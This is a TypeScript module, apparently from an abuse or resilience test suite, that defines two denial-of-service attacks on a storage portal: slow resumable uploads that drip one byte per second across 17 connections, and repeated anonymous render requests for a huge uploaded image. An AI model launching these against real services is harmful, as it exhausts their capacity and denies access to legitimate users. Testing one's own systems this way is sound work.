import { request } from 'node:http';
import type { Attack, Target } from './attack.ts';
import { largePicture } from './large-picture.ts';
import { anonymousHeaders, keepSending, memberHeaders, send } from './send.ts';

/** A PATCH of a resumable upload whose body comes a byte a second. */
async function dripUpload(target: Target, signal: AbortSignal): Promise<void> {
  const headers = { ...memberHeaders(target), 'tus-resumable': '1.0.0' };
  const encoded = (text: string) => Buffer.from(text).toString('base64');
  const name = `${target.memberId}/${crypto.randomUUID()}.png`;
  const metadata = `bucketName ${encoded('avatars')},objectName ${encoded(name)},contentType ${encoded('image/png')}`;
  const created = await fetch(`${target.portal}/storage/v1/upload/resumable`, {
    method: 'POST',
    headers: { ...headers, 'upload-length': '100000', 'upload-metadata': metadata },
    signal,
  }).catch(() => undefined);
  const location = created?.headers.get('location');
  if (!location) return void (await new Promise((resolve) => setTimeout(resolve, 100)));
  const patch = request(new URL(location, target.portal), {
    method: 'PATCH',
    headers: { ...headers, 'upload-offset': '0', 'content-type': 'application/offset+octet-stream', 'content-length': '100000' },
    signal,
  });
  await new Promise<void>((resolve) => {
    const drip = setInterval(() => patch.write('x'), 1_000);
    const end = () => (clearInterval(drip), resolve());
    patch
      .on('response', (answer) => answer.resume())
      .on('error', end)
      .on('close', end);
  });
}

/** M12: queues that one client fills. */
export const attacks: readonly Attack[] = [
  {
    name: 'M12 slow resumable uploads, 17 of a member',
    run: (target, signal) => keepSending(17, signal, () => dripUpload(target, signal)),
  },
  {
    name: 'M12 renderings of pictures, 32 of an address',
    run: async (target, signal) => {
      // As many pixels as are rendered at all, in a picture that any member may upload.
      const path = `avatars/${target.memberId}/large.png`;
      const headers = { ...memberHeaders(target), 'content-type': 'image/png', 'x-upsert': 'true' };
      await send(`${target.portal}/storage/v1/object/${path}`, { method: 'POST', headers, body: largePicture(7_000) }, signal);
      let size = 0;
      await keepSending(32, signal, (ending) => {
        const query = `width=2500&height=${1_000 + ((size += 1) % 1_500)}&format=avif`;
        const url = `${target.portal}/storage/v1/render/image/public/${path}?${query}`;
        return send(url, { headers: anonymousHeaders(target) }, ending);
      });
    },
  },
];
